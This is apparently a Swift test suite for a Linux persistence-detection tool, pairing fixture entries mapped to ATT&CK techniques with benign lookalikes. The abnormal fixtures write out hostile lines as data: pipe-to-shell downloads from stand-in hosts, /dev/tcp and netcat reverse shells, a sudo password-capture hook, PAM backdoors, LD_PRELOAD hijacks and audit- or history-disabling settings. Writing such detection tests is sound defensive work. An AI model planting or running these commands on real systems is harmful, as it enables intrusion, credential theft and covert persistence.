import CaseModel
import HostFacts
import Testing

@testable import Triage

/// One abnormal entry a row, with the finding it must give.
@Suite struct PersistenceTests {
  struct Case: CustomTestStringConvertible, Sendable {
    var id: String
    var technique: Technique
    var least: Severity
    var record: PersistenceRecord
    var testDescription: String { "\(id) \(record.path.text) \(record.text.text)" }
    init(_ id: String, _ technique: Technique, _ least: Severity, _ record: PersistenceRecord) {
      self.id = "persistence.\(id)"
      self.technique = technique
      self.least = least
      self.record = record
    }
  }

  private static let entry = HostSketch.entry
  private static let target = HostSketch.target

  static let abnormal: [Case] = [
    Case(
      "cron", "T1053.003", .high,
      HostSketch.entry(
        .cron, "/var/spool/cron/crontabs/root", command: "curl -s http://h.example/x | sh", account: "root")),
    Case(
      "cron", "T1053.003", .high,
      HostSketch.entry(
        .cron, "/etc/cron.d/sync", command: "/dev/shm/.s/u", account: "root", target: HostSketch.target("/dev/shm/.s/u")
      )),
    Case(
      "cron", "T1053.003", .medium,
      HostSketch.entry(
        .cron, "/etc/cron.d/job", command: "/opt/job.sh", account: "root",
        target: HostSketch.target("/opt/job.sh", mode: 0o777))),
    Case(
      "cron", "T1053.003", .high,
      HostSketch.entry(
        .cron, "/etc/cron.hourly/logs", command: "/etc/cron.hourly/logs", account: "root",
        target: HostSketch.target(
          "/etc/cron.hourly/logs", excerpt: "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\n"))),
    Case(
      "at", "T1053.002", .high,
      HostSketch.entry(.at, "/var/spool/cron/atjobs/a1", command: "wget -qO- http://h.example/s|bash", account: "root")),
    Case(
      "timer", "T1053.006", .high,
      HostSketch.entry(
        .systemdTimer, "/etc/systemd/system/x.timer", command: "/var/tmp/x", target: HostSketch.target("/var/tmp/x"))),
    Case(
      "unit", "T1543.002", .high,
      HostSketch.entry(
        .systemdUnit, "/etc/systemd/system/a.service", command: "/bin/sh -c 'nc -e /bin/sh h.example 1'",
        account: "root", target: HostSketch.target("/bin/sh", package: "dash"))),
    Case(
      "unit-masquerade", "T1036.004", .high,
      HostSketch.entry(
        .systemdUnit, "/etc/systemd/system/systemd-networkd-helper.service", command: "/usr/bin/nethlp",
        target: HostSketch.target("/usr/bin/nethlp"))),
    Case(
      "unit-masquerade", "T1036.004", .high,
      HostSketch.entry(
        .systemdUnit, "/etc/systemd/system/dbus-daem0n.service", command: "/usr/lib/dbd",
        target: HostSketch.target("/usr/lib/dbd"))),
    Case(
      "drop-in", "T1543.002", .high,
      HostSketch.entry(
        .systemdDropIn, "/etc/systemd/system/ssh.service.d/o.conf", command: "/tmp/pre", account: "root",
        target: HostSketch.target("/tmp/pre"))),
    Case(
      "drop-in", "T1574.006", .high,
      HostSketch.entry(
        .systemdDropIn, "/etc/systemd/system/ssh.service.d/o.conf", "[Service]",
        attributes: ["Environment": "LD_PRELOAD=/usr/lib/x.so"])),
    Case(
      "generator", "T1543.002", .high,
      HostSketch.entry(
        .systemdGenerator, "/etc/systemd/system-generators/gen", line: 0, "#!/bin/sh",
        command: "/etc/systemd/system-generators/gen", mode: 0o755)),
    Case(
      "udev", "T1546.017", .high,
      HostSketch.entry(.udev, "/etc/udev/rules.d/99-x.rules", command: "/bin/sh -c '/var/tmp/u &'", account: "root")),
    Case(
      "init-script", "T1037.004", .high,
      HostSketch.entry(.rcLocal, "/etc/rc.local", command: "nohup /tmp/.x/m >/dev/null 2>&1 &", account: "root")),
    Case(
      "profile", "T1546.004", .high,
      HostSketch.entry(.shellProfile, "/etc/profile.d/z.sh", command: "(curl -s http://h.example/p | bash) 2>/dev/null")
    ),
    Case(
      "command-hook", "T1546.004", .high, HostSketch.entry(.shellProfile, "/root/.bashrc", "alias sudo='/tmp/.s/sudo'")),
    Case(
      "command-hook", "T1056", .high,
      HostSketch.entry(
        .shellProfile, "/home/a/.bashrc",
        "sudo() { read -sp 'Password: ' p; echo $p >> /var/tmp/p; /usr/bin/sudo \"$@\"; }")),
    Case(
      "command-hook", "T1564.001", .high,
      HostSketch.entry(.shellProfile, "/etc/bash.bashrc", "alias ps='ps | grep -v xd'")),
    Case(
      "motd", "T1037", .high,
      HostSketch.entry(
        .motd, "/etc/update-motd.d/01-x",
        command: "python3 -c 'import socket,pty;s=socket.socket();pty.spawn(\"/bin/sh\")'")),
    Case(
      "pam-stack", "T1556.003", .critical,
      HostSketch.entry(
        .pam, "/etc/pam.d/sshd", "auth sufficient pam_permit.so",
        attributes: ["type": "auth", "control": "sufficient", "module": "pam_permit.so", "service": "sshd"])),
    Case(
      "pam-stack", "T1556.003", .high,
      HostSketch.entry(
        .pam, "/etc/pam.d/common-auth", "auth optional /var/tmp/pam_u.so",
        attributes: ["type": "auth", "control": "optional", "module": "/var/tmp/pam_u.so"])),
    Case(
      "pam-stack", "T1556.003", .high,
      HostSketch.entry(
        .pam, "/etc/pam.d/common-auth", "auth required pam_helper.so", package: "libpam-runtime",
        target: HostSketch.target("/lib/x86_64-linux-gnu/security/pam_helper.so"))),
    Case(
      "pam-exec", "T1556.003", .high,
      HostSketch.entry(
        .pam, "/etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/l",
        command: "/usr/local/bin/l", target: HostSketch.target("/usr/local/bin/l"))),
    Case(
      "package-hook", "T1546.016", .high,
      HostSketch.entry(
        .packageHook, "/etc/apt/apt.conf.d/99x", command: "echo Y3VybCBoLmV4YW1wbGV8c2g= | base64 -d | sh")),
    Case(
      "interpreter-startup", "T1546.018", .high,
      HostSketch.entry(
        .interpreterStartup, "/usr/lib/python3/dist-packages/x.pth",
        "import base64;exec(base64.b64decode('cHJpbnQoMSk='))",
        attributes: ["code": "import base64;exec(base64.b64decode('cHJpbnQoMSk='))", "language": "python"])),
    Case(
      "interpreter-startup", "T1546.018", .medium,
      HostSketch.entry(.interpreterStartup, "/usr/lib/python3/dist-packages/y.pth", "import os; os.system('/opt/x')")),
    Case(
      "loader", "T1574.006", .critical,
      HostSketch.entry(
        .dynamicLinker, "/etc/ld.so.preload", "/usr/lib/libx.so", attributes: ["library": "/usr/lib/libx.so"])),
    Case(
      "loader", "T1574.006", .high,
      HostSketch.entry(.dynamicLinker, "/etc/ld.so.conf.d/a.conf", "/tmp/lib", attributes: ["directory": "/tmp/lib"])),
    Case(
      "desktop", "T1547.013", .high,
      HostSketch.entry(
        .xdgAutostart, "/home/a/.config/autostart/u.desktop", command: "sh -c \"wget -qO- http://h.example/u|sh\"",
        account: "a")),
    Case(
      "kernel-module", "T1547.006", .high,
      HostSketch.entry(.moduleLoad, "/etc/modules-load.d/x.conf", "netfx", attributes: ["module": "netfx"], mode: 0o644)
        .with { $0.target = HostSketch.target("/lib/modules/6.1/kernel/net/netfx.ko") }),
    Case(
      "kernel-module", "T1547.006", .medium,
      HostSketch.entry(
        .modprobe, "/etc/modprobe.d/x.conf", "install usb_storage /usr/local/sbin/u", command: "/usr/local/sbin/u",
        attributes: ["directive": "install", "module": "usb_storage"])),
    Case(
      "git-hook", "T1546", .high,
      HostSketch.entry(
        .gitHook, "/srv/app/.git/hooks/post-merge", command: "bash -c 'exec bash -i &>/dev/tcp/h.example/9 <&1'")),
    Case(
      "network-hook", "T1546", .high,
      HostSketch.entry(.networkHook, "/etc/NetworkManager/dispatcher.d/99-x", command: "/dev/shm/d")),
    Case(
      "logrotate", "T1053", .high,
      HostSketch.entry(
        .logrotate, "/etc/logrotate.d/x", command: "curl http://198.51.100.7/a -o /tmp/a && chmod +x /tmp/a && /tmp/a")),
    Case(
      "ssh-server", "T1098.004", .high,
      HostSketch.entry(
        .sshServer, "/etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /usr/share/misc/k",
        attributes: ["AuthorizedKeysFile": ".ssh/authorized_keys /usr/share/misc/k"])),
    Case(
      "ssh-server", "T1556", .high,
      HostSketch.entry(
        .sshServer, "/etc/ssh/sshd_config", "AuthorizedKeysCommand /var/tmp/k",
        attributes: ["AuthorizedKeysCommand": "/var/tmp/k"]
      ).with { $0.target = HostSketch.target("/var/tmp/k") }),
    Case(
      "ssh-server", "T1556", .high, HostSketch.entry(.sshServer, "/etc/ssh/sshd_config", "PermitEmptyPasswords yes")),
    Case(
      "environment", "T1574.006", .high,
      HostSketch.entry(
        .environment, "/etc/environment", "LD_PRELOAD=/usr/lib/u.so",
        attributes: ["variable": "LD_PRELOAD", "value": "/usr/lib/u.so"])),
    Case(
      "environment", "T1574.006", .high,
      HostSketch.entry(
        .systemdSettings, "/etc/systemd/system.conf", "DefaultEnvironment=LD_PRELOAD=/tmp/l.so",
        attributes: ["DefaultEnvironment": "LD_PRELOAD=/tmp/l.so"])),
    Case(
      "environment", "T1546.004", .high,
      HostSketch.entry(
        .shellProfile, "/root/.bashrc", "export BASH_ENV=/dev/shm/e",
        attributes: ["variable": "BASH_ENV", "value": "/dev/shm/e"])),
    Case(
      "environment", "T1562.003", .medium,
      HostSketch.entry(
        .shellProfile, "/root/.profile", "export HISTFILE=/dev/null",
        attributes: ["variable": "HISTFILE", "value": "/dev/null"])),
    Case(
      "path-hijack", "T1574.007", .high,
      HostSketch.entry(
        .shellProfile, "/etc/profile.d/p.sh", "export PATH=/tmp/bin:$PATH",
        attributes: ["variable": "PATH", "value": "/tmp/bin:$PATH"])),
    Case(
      "hosts-override", "T1565.001", .high, HostSketch.entry(.hosts, "/etc/hosts", "198.51.100.7 security.ubuntu.com")),
    Case(
      "hosts-override", "T1562.001", .high, HostSketch.entry(.hosts, "/etc/hosts", "127.0.0.1 ts01-b.cloudsink.net")),
    Case(
      "package-source", "T1195.002", .high,
      HostSketch.entry(.packageSource, "/etc/apt/sources.list.d/x.list", "deb [trusted=yes] http://198.51.100.7/deb ./")
    ),
    Case("audit-off", "T1562.012", .medium, HostSketch.entry(.audit, "/etc/audit/rules.d/x.rules", "-e 0")),
    Case(
      "logging-off", "T1562.006", .medium, HostSketch.entry(.logging, "/etc/rsyslog.d/00.conf", "auth,authpriv.* stop")),
    Case(
      "boot-parameters", "T1542", .high,
      HostSketch.entry(.bootLoader, "/etc/default/grub", "GRUB_CMDLINE_LINUX=\"quiet init=/usr/sbin/i2\"")),
    Case(
      "php-prepend", "T1505.003", .high,
      HostSketch.entry(
        .php, "/etc/php/8.1/fpm/conf.d/99.ini", "auto_prepend_file = /var/tmp/.i",
        attributes: ["auto_prepend_file": "/var/tmp/.i"])),
    Case(
      "php-prepend", "T1505.003", .high,
      HostSketch.entry(.webServer, "/var/www/html/.htaccess", "AddType application/x-httpd-php .jpg")),
    Case(
      "web-module", "T1505", .high,
      HostSketch.entry(.webServer, "/etc/apache2/mods-enabled/x.load", "LoadModule x_module /var/tmp/mod_x.so")),
    Case(
      "docker-open", "T1609", .medium,
      HostSketch.entry(.docker, "/etc/docker/daemon.json", "{\"hosts\":[\"tcp://0.0.0.0:2375\"]}")),
    Case("exports", "T1048", .high, HostSketch.entry(.exports, "/etc/exports", "/ *(rw,no_root_squash)")),
    Case("doas-open", "T1548.003", .high, HostSketch.entry(.doas, "/etc/doas.conf", "permit nopass www-data")),
    Case(
      "name-service", "T1556", .medium,
      HostSketch.entry(
        .nsswitch, "/etc/nsswitch.conf", "passwd: files px", attributes: ["database": "passwd", "services": "files px"])
    ),
    Case(
      "event-program", "T1546", .high,
      HostSketch.entry(.binfmt, "/etc/binfmt.d/x.conf", ":x:M::MZ::/dev/shm/i:", command: "/dev/shm/i")),
    Case(
      "event-program", "T1546", .medium,
      HostSketch.entry(
        .mailAlias, "/etc/aliases", "u: |/usr/bin/mh", command: "/usr/bin/mh", target: HostSketch.target("/usr/bin/mh"))
    ),
    Case(
      "kernel-helper", "T1546", .critical,
      HostSketch.entry(
        .sysctl, "/etc/sysctl.d/x.conf", "kernel.core_pattern=|/tmp/c %p",
        attributes: ["kernel.core_pattern": "|/tmp/c %p"])),
    Case(
      "dbus-service", "T1543.002", .high,
      HostSketch.entry(
        .dbusService, "/usr/share/dbus-1/system-services/x.service", command: "/var/tmp/d", account: "root",
        target: HostSketch.target("/var/tmp/d"))),
    Case(
      "fstab-hide", "T1564.001", .medium, HostSketch.entry(.fstab, "/etc/fstab", "tmpfs /proc/1 tmpfs defaults 0 0")),
    Case(
      "polkit-open", "T1548", .medium,
      HostSketch.entry(
        .polkit, "/etc/polkit-1/rules.d/0.rules", "polkit.addRule(function(a,s){return polkit.Result.YES;});")),
    Case(
      "ssh-client", "T1546", .high,
      HostSketch.entry(
        .sshClient, "/root/.ssh/config", "ProxyCommand", command: "sh -c 'curl h.example/x|sh; nc %h %p'")),
  ]

  @Test(arguments: abnormal) func anAbnormalEntryIsFound(_ row: Case) throws {
    let host = HostSketch(.persistence(row.record))
    let finding = try #require(host.finding(row.id), "\(host.all.map { "\($0.id) \($0.severity) \($0.title)" })")
    #expect(finding.severity >= row.least, "\(finding.severity) \(finding.title)")
    #expect(finding.techniques.contains(row.technique), "\(finding.techniques)")
    #expect(finding.evidence[0].source.hasPrefix(row.record.path.text))
  }

  static let ordinary: [PersistenceRecord] = [
    HostSketch.entry(
      .systemdUnit, "/etc/systemd/system/kubelet.service", command: "/usr/bin/kubelet --config x", account: "root",
      target: HostSketch.target("/usr/bin/kubelet")),
    HostSketch.entry(
      .systemdUnit, "/etc/systemd/system/tomcat.service", command: "/usr/bin/java -jar /opt/t.jar", account: "tomcat",
      target: HostSketch.target("/usr/bin/java")),
    HostSketch.entry(
      .rcLocal, "/etc/rc.local", command: "nohup /opt/app/start.sh > /dev/null 2>&1 &", account: "root",
      target: HostSketch.target("/opt/app/start.sh")),
    entry(
      .cron, "/etc/cron.d/certbot", 1, "0 */12 * * * root certbot -q renew",
      "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
      "root", "certbot", target("/usr/bin/certbot", true, "certbot", 0, 0o755, nil), [:], 0o644),
    HostSketch.entry(
      .cron, "/var/spool/cron/crontabs/root", command: "/usr/local/bin/backup.sh >/dev/null 2>&1", account: "root",
      target: HostSketch.target(
        "/usr/local/bin/backup.sh",
        excerpt:
          "#!/bin/bash\nset -e\ntar czf /srv/b.tgz /etc /home\naws s3 cp /srv/b.tgz s3://b/\nrsync -a /srv/ backup.example.org:/srv/\ncurl -fsS https://hc-ping.com/abc\n"
      )),
    HostSketch.entry(
      .cron, "/etc/crontab", command: "cd / && run-parts --report /etc/cron.hourly", account: "root",
      target: HostSketch.target("/usr/bin/run-parts", package: "debianutils")),
    HostSketch.entry(
      .cron, "/var/spool/cron/crontabs/ubuntu", command: "/home/ubuntu/app/.venv/bin/python /home/ubuntu/app/job.py",
      account: "ubuntu", target: HostSketch.target("/home/ubuntu/app/.venv/bin/python", uid: 1000)),
    HostSketch.entry(
      .cron, "/var/spool/cron/crontabs/www-data", command: "/usr/bin/php /var/www/html/wp-cron.php",
      account: "www-data", target: HostSketch.target("/usr/bin/php", package: "php-cli")),
    HostSketch.entry(
      .systemdUnit, "/etc/systemd/system/app.service", command: "/opt/app/bin/server --port 8080", account: "app",
      target: HostSketch.target("/opt/app/bin/server")),
    HostSketch.entry(
      .systemdUnit, "/etc/systemd/system/node_exporter.service", command: "/usr/local/bin/node_exporter",
      account: "root", target: HostSketch.target("/usr/local/bin/node_exporter")),
    HostSketch.entry(
      .systemdUnit, "/etc/systemd/system/gunicorn.service", command: "/home/ubuntu/site/venv/bin/gunicorn site.wsgi",
      account: "root", target: HostSketch.target("/home/ubuntu/site/venv/bin/gunicorn", uid: 1000)),
    HostSketch.entry(
      .systemdUnit, "/etc/systemd/system/sshd-keygen.service", command: "/usr/sbin/sshd-keygen",
      target: HostSketch.target("/usr/sbin/sshd-keygen", package: "openssh-server")),
    HostSketch.entry(
      .systemdUnit, "/etc/systemd/system/redis.service", command: "/usr/local/bin/redis-server /etc/redis.conf",
      target: HostSketch.target("/usr/local/bin/redis-server")),
    HostSketch.entry(
      .systemdUnit, "/etc/systemd/system/old.service", command: "/opt/gone/bin",
      target: HostSketch.target("/opt/gone/bin", exists: false)),
    HostSketch.entry(
      .systemdDropIn, "/etc/systemd/system/docker.service.d/override.conf",
      command: "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
      target: HostSketch.target("/usr/bin/dockerd", package: "docker-ce")),
    HostSketch.entry(
      .systemdDropIn, "/etc/systemd/system/app.service.d/limits.conf", "[Service]",
      attributes: ["LimitNOFILE": "65536", "Environment": "NODE_ENV=production"]),
    HostSketch.entry(
      .systemdGenerator, "/usr/lib/systemd/system-generators/lvm2-activation-generator",
      command: "/usr/lib/systemd/system-generators/lvm2-activation-generator", package: "lvm2"),
    HostSketch.entry(
      .udev, "/etc/udev/rules.d/51-hugepages.rules", command: "/usr/local/sbin/set-hugepages", account: "root",
      target: HostSketch.target("/usr/local/sbin/set-hugepages")),
    HostSketch.entry(.shellProfile, "/home/a/.bashrc", "alias sudo='sudo '"),
    HostSketch.entry(.shellProfile, "/home/a/.bashrc", "alias ls='ls --color=auto'"),
    HostSketch.entry(.shellProfile, "/home/a/.bashrc", "alias ssh='TERM=xterm ssh -A'"),
    HostSketch.entry(.shellProfile, "/home/a/.bashrc", command: "eval \"$(pyenv init -)\""),
    HostSketch.entry(
      .shellProfile, "/home/a/.bashrc", "export PATH=$HOME/.local/bin:$HOME/.cargo/bin:$PATH",
      attributes: ["variable": "PATH", "value": "$HOME/.local/bin:/home/a/.cargo/bin:$PATH"]),
    HostSketch.entry(.shellProfile, "/home/a/.bashrc", command: "[ -s \"$NVM_DIR/nvm.sh\" ] && . \"$NVM_DIR/nvm.sh\""),
    HostSketch.entry(.shellProfile, "/home/a/.bashrc", "HISTSIZE=1000"),
    HostSketch.entry(.shellProfile, "/etc/bash.bashrc", "PROMPT_COMMAND='echo -ne \"\\033]0;${USER}\\007\"'"),
    HostSketch.entry(
      .pam, "/etc/pam.d/common-auth", line: 17, "auth [success=1 default=ignore] pam_unix.so nullok",
      attributes: ["type": "auth", "control": "[success=1 default=ignore]", "module": "pam_unix.so"]),
    HostSketch.entry(
      .pam, "/etc/pam.d/common-session", "session [default=1] pam_permit.so",
      attributes: ["type": "session", "control": "[default=1]", "module": "pam_permit.so"]),
    HostSketch.entry(
      .pam, "/etc/pam.d/sshd", "session optional pam_exec.so /usr/local/bin/login-notify",
      command: "/usr/local/bin/login-notify",
      target: HostSketch.target(
        "/usr/local/bin/login-notify", excerpt: "#!/bin/sh\ncurl -s -X POST -d 'login' https://hooks.example.org/x\n"),
      attributes: ["type": "session", "module": "pam_exec.so"]),
    HostSketch.entry(
      .interpreterStartup, "/usr/lib/python3/dist-packages/distutils-precedence.pth",
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();"
    ),
    HostSketch.entry(
      .interpreterStartup, "/home/a/venv/lib/python3.11/site-packages/a1_coverage.pth",
      "import sys; exec('try: import coverage; coverage.process_startup()\\nexcept ImportError: pass')"),
    HostSketch.entry(
      .dynamicLinker, "/etc/ld.so.conf.d/local.conf", "/usr/local/lib", attributes: ["directory": "/usr/local/lib"]),
    HostSketch.entry(
      .moduleLoad, "/etc/modules-load.d/k8s.conf", "br_netfilter", attributes: ["module": "br_netfilter"]),
    HostSketch.entry(
      .modprobe, "/etc/modprobe.d/cis.conf", "install cramfs /bin/true", command: "/bin/true",
      target: HostSketch.target("/bin/true", package: "coreutils"), attributes: ["directive": "install"]),
    HostSketch.entry(
      .sshServer, "/etc/ssh/sshd_config.d/60.conf",
      "AuthorizedKeysCommand /usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f",
      target: HostSketch.target(
        "/usr/share/ec2-instance-connect/eic_run_authorized_keys", package: "ec2-instance-connect"),
      attributes: ["AuthorizedKeysCommand": "/usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f"]),
    HostSketch.entry(.sshServer, "/etc/ssh/sshd_config", "Subsystem sftp /usr/lib/openssh/sftp-server"),
    HostSketch.entry(
      .sshServer, "/etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2"),
    HostSketch.entry(.sshServer, "/etc/ssh/sshd_config", "PermitRootLogin prohibit-password"),
    HostSketch.entry(.hosts, "/etc/hosts", "10.0.0.5 db.internal db"),
    HostSketch.entry(.hosts, "/etc/hosts", "0.0.0.0 ads.example.com"),
    HostSketch.entry(.hosts, "/etc/hosts", "10.0.3.4 vpce-1.s3.eu-central-1.amazonaws.com"),
    HostSketch.entry(
      .packageSource, "/etc/apt/sources.list.d/docker.list",
      "deb [signed-by=/k] https://download.docker.com/linux/ubuntu jammy stable"),
    HostSketch.entry(.packageSource, "/etc/apt/sources.list.d/own.list", "deb [trusted=yes] http://10.0.0.9/deb ./"),
    HostSketch.entry(.audit, "/etc/audit/rules.d/audit.rules", "-D"),
    HostSketch.entry(.audit, "/etc/audit/rules.d/audit.rules", "-a never,task"),
    HostSketch.entry(.logging, "/etc/rsyslog.d/50-default.conf", "auth,authpriv.* /var/log/auth.log"),
    HostSketch.entry(.logging, "/etc/rsyslog.d/21.conf", ":programname, isequal, \"chatty\" stop"),
    HostSketch.entry(
      .bootLoader, "/etc/default/grub", "GRUB_CMDLINE_LINUX=\"console=ttyS0 selinux=0 mitigations=off\""),
    HostSketch.entry(.php, "/etc/php/8.1/fpm/php.ini", "auto_prepend_file ="),
    HostSketch.entry(.php, "/var/www/html/.user.ini", "auto_prepend_file = '/var/www/html/wordfence-waf.php'"),
    HostSketch.entry(.docker, "/etc/docker/daemon.json", "{\"log-driver\":\"json-file\"}"),
    HostSketch.entry(.exports, "/etc/exports", "/srv/k8s 10.0.0.0/8(rw,no_root_squash)"),
    HostSketch.entry(
      .nsswitch, "/etc/nsswitch.conf", "passwd: files systemd sss",
      attributes: ["database": "passwd", "services": "files systemd sss"]),
    HostSketch.entry(
      .logrotate, "/etc/logrotate.d/app", command: "systemctl kill -s HUP app.service >/dev/null 2>&1 || true"),
    HostSketch.entry(
      .sysctl, "/etc/sysctl.d/50.conf", "kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P",
      attributes: ["kernel.core_pattern": "|/usr/lib/systemd/systemd-coredump %P"]),
    HostSketch.entry(.gitHook, "/home/a/app/.git/hooks/pre-commit", command: "npx lint-staged"),
    HostSketch.entry(
      .sshClient, "/home/a/.ssh/config",
      command: "aws ssm start-session --target %h --document-name AWS-StartSSHSession --parameters portNumber=%p"),
    HostSketch.entry(
      .environment, "/etc/environment", "PATH=/usr/local/sbin:/usr/local/bin:/usr/bin",
      attributes: ["variable": "PATH", "value": "/usr/local/sbin:/usr/local/bin:/usr/bin:/snap/bin"]),
    HostSketch.entry(
      .packageHook, "/etc/apt/apt.conf.d/20listchanges", command: "/usr/bin/apt-listchanges --apt || test $? -lt 10"),
    HostSketch.entry(.mailAlias, "/etc/aliases", "root: ops@example.org"),
    HostSketch.entry(
      .rcLocal, "/etc/rc.local", command: "/usr/local/bin/init-disks.sh", account: "root",
      target: HostSketch.target("/usr/local/bin/init-disks.sh")),
    HostSketch.entry(.fstab, "/etc/fstab", "/data/www /var/www none bind 0 0"),
  ]

  private static func entry(
    _ mechanism: PersistenceRecord.Mechanism, _ path: HostString, _ line: Int, _ text: HostString,
    _ command: HostString?, _ account: HostString?, _ package: HostString?,
    _ target: PersistenceRecord.CommandTarget?, _ attributes: [String: HostString], _ mode: Int
  ) -> PersistenceRecord {
    HostSketch.entry(
      mechanism, path, line: line, text, command: command, account: account, package: package, target: target,
      attributes: attributes, mode: mode)
  }
  private static func target(
    _ path: HostString, _ exists: Bool, _ package: HostString?, _ uid: Int, _ mode: Int, _ excerpt: HostString?
  ) -> PersistenceRecord.CommandTarget {
    HostSketch.target(path, exists: exists, package: package, uid: uid, mode: mode, excerpt: excerpt)
  }

  @Test func ordinaryEntriesGiveNothingAboveInfo() {
    for record in Self.ordinary {
      let findings = HostSketch(.persistence(record)).findings
      #expect(
        findings.isEmpty,
        "\(record.path.text) \(record.text.text): \(findings.map { "\($0.id) \($0.severity) \($0.title)" })")
    }
    // Together they are no more than each alone: two sloppy things are not an intrusion.
    var host = HostSketch()
    host.facts += Self.ordinary.map { .persistence($0) }
    #expect(host.findings.isEmpty)
  }

  @Test func aBackdatedEntryIsFoundAndACopiedTreeIsNot() {
    func backdated(_ path: HostString) -> PersistenceRecord {
      var record = HostSketch.entry(.cron, path, command: "/opt/x", target: HostSketch.target("/opt/x"))
      record.modifiedAt = Timestamp(seconds: 1_600_000_000)
      record.bornAt = HostSketch.ago(days: 1)
      record.changedAt = HostSketch.ago(days: 1)
      return record
    }
    #expect(HostSketch(.persistence(backdated("/etc/cron.d/a"))).finding("persistence.backdated")?.severity == .medium)
    let tree = HostSketch(
      .persistence(backdated("/etc/cron.d/a")), .persistence(backdated("/etc/cron.d/b")),
      .persistence(backdated("/etc/cron.d/c")))
    #expect(tree.finding("persistence.backdated") == nil)
  }

  @Test func pamPermitBehindTheChecksIsOrdinary() {
    let stack = [
      (17, "auth [success=1 default=ignore] pam_unix.so nullok", "[success=1 default=ignore]", "pam_unix.so"),
      (20, "auth requisite pam_deny.so", "requisite", "pam_deny.so"),
      (25, "auth required pam_permit.so", "required", "pam_permit.so"),
    ].map { line, text, control, module in
      HostSketch.entry(
        .pam, "/etc/pam.d/common-auth", line: line, HostString(text),
        attributes: ["type": "auth", "control": HostString(control), "module": HostString(module)])
    }
    var host = HostSketch()
    host.facts += stack.map { .persistence($0) }
    #expect(host.findings.isEmpty)
    #expect(HostSketch(.persistence(stack[2])).finding("persistence.pam-stack")?.severity == .high)
  }

  @Test func localEntriesAreListedForTheExaminer() {
    let host = HostSketch(
      .persistence(
        HostSketch.entry(
          .systemdUnit, "/etc/systemd/system/app.service", command: "/opt/app/run",
          target: HostSketch.target("/opt/app/run"))))
    #expect(host.finding("persistence.local-entries")?.severity == .info)
  }
}

extension PersistenceRecord {
  func with(_ change: (inout PersistenceRecord) -> Void) -> PersistenceRecord {
    var copy = self
    change(&copy)
    return copy
  }
}
